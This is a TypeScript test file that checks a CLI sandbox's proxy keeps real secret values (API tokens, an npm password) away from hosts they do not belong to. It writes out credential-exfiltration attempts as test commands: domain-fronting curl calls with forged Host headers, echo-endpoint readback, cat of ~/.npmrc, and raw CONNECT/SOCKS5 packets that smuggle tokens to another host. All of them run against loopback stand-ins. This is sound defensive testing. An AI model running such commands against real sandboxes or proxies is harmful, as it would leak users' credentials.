// Attacks on secrets kept out of the sandbox (`sandbox.network.secrets`), as root and as an
// unprivileged user, against the built CLI: a command holding a placeholder tries to have the
// proxy put the real value into a request that ends up somewhere else than the host it belongs
// to, or to read the value from what the sandbox is given. Loopback servers under made-up names
// (pinned with `hosts`) record every request they get, so each check looks at what really arrived.
import { rm } from "node:fs/promises";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { CliProcesses } from "../../cli/helpers/cli-binary.js";
import { sandboxUnavailableReason } from "../../helpers/prerequisites.js";
import { type TestUser, testUsers } from "../../helpers/test-users.js";
import { prepareSecretsRun, type Recorder, upstreamServers } from "./secrets-sandbox.js";

const unavailable = await sandboxUnavailableReason();

vi.setConfig({ testTimeout: 180_000 });

const cli = new CliProcesses();
const realToken = "real-api-token-a77ac4e5a77ac4e5";
const plainToken = "real-plain-token-b88bd5f6b88bd5f6";
const npmPassword = "cmVhbC1ucG0tcGFzc3dvcmQ=";

let upstreamCaPem = "";
let secretHost: Recorder;
let plainHost: Recorder;
let otherPlain: Recorder;

beforeAll(async () => {
	const upstream = await upstreamServers();
	upstreamCaPem = upstream.caPem;
	// Its /echo path answers with the credentials it got, in the body and a header (a debugging endpoint).
	secretHost = await upstream.https("secret.test", (request) => {
		if (!request.url?.startsWith("/echo")) return { body: "SECRET-ANSWER" };
		const got = request.headers.authorization ?? "";
		return { body: `echo: ${got}`, headers: { "x-echo": got } };
	});
	plainHost = await upstream.plain((request) =>
		request.url?.startsWith("/echo") ? { body: `echo: ${request.headers["x-token"] ?? ""}` } : { body: "PLAIN-ANSWER" },
	);
	otherPlain = await upstream.plain("OTHER-ANSWER");
});

afterAll(() => {
	for (const host of [secretHost, plainHost, otherPlain]) host?.server.close();
});

function settings() {
	const ports = [secretHost.port, plainHost.port, otherPlain.port];
	return {
		sandbox: {
			enabled: true,
			network: {
				allow: ["secret.test", "plain.test", "other.test", ...ports.map((port) => `127.0.0.1:${port}`)],
				hosts: ["secret.test=127.0.0.1", "plain.test=127.0.0.1", "other.test=127.0.0.1"],
				secrets: [
					{ env: "TEST_API_TOKEN", hosts: ["secret.test"] },
					{ env: "PLAIN_TOKEN", hosts: ["plain.test"] },
					{ file: "~/.npmrc", hosts: ["secret.test"] },
				],
			},
		},
	};
}

/** Runs `command` through the built CLI's sandbox as `user`, the secrets in its environment and home. */
async function sandboxed(user: TestUser, command: string) {
	for (const host of [secretHost, plainHost, otherPlain]) host.seen.length = 0;
	const { outside, project, env } = await prepareSecretsRun({
		user,
		prefix: "toolbelt-secrets-attacks-",
		settings: settings(),
		npmrc: `//secret.test:${secretHost.port}/:username=me\n//secret.test:${secretHost.port}/:_password=${npmPassword}\n`,
		caPem: upstreamCaPem,
		env: {
			TEST_API_TOKEN: realToken,
			PLAIN_TOKEN: plainToken,
			// The same value under an innocent name (a mirror's login, a CI step's copy).
			MIRROR_LOGIN: realToken,
			DEPLOY_SETTINGS: `registry=secret.test login=${plainToken}`,
		},
	});
	try {
		const run = await cli.run(["tool", "bash", JSON.stringify({ command }), "--sandbox"], { cwd: project, user, env });
		return { ...run, output: run.stdout + run.stderr };
	} finally {
		cli.killAll();
		await rm(outside, { recursive: true, force: true });
	}
}

/** Every request `recorder` got that carried `value`. */
const carrying = (recorder: Recorder, value: string) =>
	recorder.seen.filter((request) => request.headers.includes(value));

describe.skipIf(unavailable !== undefined)("attacks on secrets kept out of the sandbox", () => {
	describe.each(testUsers())("as %s", (user) => {
		it("the value goes only to the site it belongs to: a Host header or absolute target naming another is refused", async () => {
			const curl = "curl -sS -m 30";
			const secret = `https://secret.test:${secretHost.port}`;
			const plain = `http://plain.test:${plainHost.port}`;
			const run = await sandboxed(
				user,
				[
					// Inside the TLS the proxy ends: the same server, another site (domain fronting).
					`${curl} -H "Host: other.test" -H "Authorization: Bearer $TEST_API_TOKEN" ${secret}/fronted`,
					`${curl} --request-target "https://other.test:${otherPlain.port}/absolute" -H "Authorization: Bearer $TEST_API_TOKEN" ${secret}/`,
					// A plain http:// request through the proxy: the URL names the right host, the Host header another.
					`${curl} -H "Host: other.test:${otherPlain.port}" -H "X-Token: $PLAIN_TOKEN" ${plain}/fronted`,
					// Without a secret, another site on the address is not reached either: the Host is the judged name.
					`${curl} -H "Host: other.test" ${secret}/fronted-plain`,
					`${curl} -H "Host: other.test:${otherPlain.port}" ${plain}/fronted-plain`,
					// The right site, written another way, still works.
					`${curl} -H "Host: SECRET.TEST." -H "Authorization: Bearer $TEST_API_TOKEN" ${secret}/same-site`,
					`${curl} -H "X-Token: $PLAIN_TOKEN" ${plain}/plain`,
					"echo done",
				].join("; echo; "),
			);
			expect(run.output).toContain("done");
			const arrivedSecret = carrying(secretHost, realToken);
			const arrivedPlain = carrying(plainHost, plainToken);
			expect(arrivedSecret.map((request) => request.url)).toEqual(["/same-site"]);
			expect(arrivedPlain.map((request) => request.url)).toEqual(["/plain"]);
			for (const request of [...arrivedSecret, ...arrivedPlain]) expect(request.host).toMatch(/^(secret|plain)\.test/i);
			expect(run.output).toContain(
				'carries the value of $TEST_API_TOKEN but the Host header "other.test" names another site',
			);
			for (const recorder of [secretHost, plainHost]) {
				const fronted = recorder.seen.filter((request) => request.url === "/fronted-plain");
				expect(fronted.map((request) => request.host.replace(/:\d+$/, ""))).toEqual([
					recorder === secretHost ? "secret.test" : "plain.test",
				]);
			}
			expect(run.output).toContain("carries the value of $PLAIN_TOKEN but the Host header");
		});

		it("a host that echoes the credentials it got gives the command the placeholder back, not the value", async () => {
			const secret = `https://secret.test:${secretHost.port}`;
			const run = await sandboxed(
				user,
				[
					`curl -sS -m 30 -i -H "Authorization: Bearer $TEST_API_TOKEN" ${secret}/echo`,
					`curl -sS -m 30 --compressed -H "Accept-Encoding: gzip" -H "Authorization: Bearer $TEST_API_TOKEN" ${secret}/echo-gzip`,
					`curl -sS -m 30 -H "X-Token: $PLAIN_TOKEN" http://plain.test:${plainHost.port}/echo-plain`,
					"echo done",
				].join("; echo; "),
			);
			expect(run.output).toContain("done");
			// The host got the value (it belongs there) and sent it back; the command saw the placeholder.
			expect(carrying(secretHost, realToken).map((request) => request.url)).toEqual(["/echo", "/echo-gzip"]);
			expect(carrying(plainHost, plainToken).map((request) => request.url)).toEqual(["/echo-plain"]);
			expect(run.output).not.toContain(realToken);
			expect(run.output).not.toContain(plainToken);
			expect(run.output).toMatch(/echo: toolbelt-placeholder-[0-9a-f]{32}/);
			expect(run.output).toMatch(/echo: Bearer toolbelt-placeholder-[0-9a-f]{32}/);
			expect(run.output).toMatch(/x-echo: Bearer toolbelt-placeholder-[0-9a-f]{32}/i);
		});

		it("a secret's value under another variable name holds the placeholder too", async () => {
			const run = await sandboxed(user, 'echo "mirror: $MIRROR_LOGIN"; echo "deploy: $DEPLOY_SETTINGS"; echo done');
			expect(run.output).toContain("done");
			expect(run.output).not.toContain(realToken);
			expect(run.output).not.toContain(plainToken);
			expect(run.output).toMatch(/mirror: toolbelt-placeholder-[0-9a-f]{32}\n/);
			expect(run.output).toMatch(/deploy: registry=secret.test login=toolbelt-placeholder-[0-9a-f]{32}\n/);
		});

		it("an npm _password is masked in the copy of the token file the sandbox sees", async () => {
			const run = await sandboxed(user, "cat ~/.npmrc; echo done");
			expect(run.output).toContain("done");
			expect(run.output).toMatch(/_password=toolbelt-placeholder-[0-9a-f]{32}/);
			expect(run.output).not.toContain(npmPassword);
		});

		it("a placeholder sent in the same packet as the CONNECT or SOCKS5 request is caught too", async () => {
			const script = (kind: "connect" | "socks") => {
				const target = `other.test:${otherPlain.port}`;
				const get = `GET /${kind}?t=\${process.env.PLAIN_TOKEN} HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n`;
				const name = "other.test";
				const opening =
					kind === "connect"
						? `"CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n"`
						: `Buffer.concat([Buffer.from([5,1,0,5,1,0,3,${name.length}]), Buffer.from("${name}"), Buffer.from([${otherPlain.port >> 8},${otherPlain.port & 255}])]).toString("latin1")`;
				// One write: the opening and the request that carries the placeholder.
				return `node -e 'const s=require("net").connect(${kind === "connect" ? 3128 : 1080},"127.0.0.1",()=>s.write(Buffer.from(${opening}+\`${get}\`,"latin1")));s.on("data",d=>process.stdout.write(d));s.on("error",()=>{})'`;
			};
			const run = await sandboxed(user, `${script("connect")}; ${script("socks")}; echo done`);
			expect(run.output).toContain("done");
			expect(otherPlain.seen.filter((request) => /^\/(connect|socks)/.test(request.url))).toEqual([]);
		});
	});
});
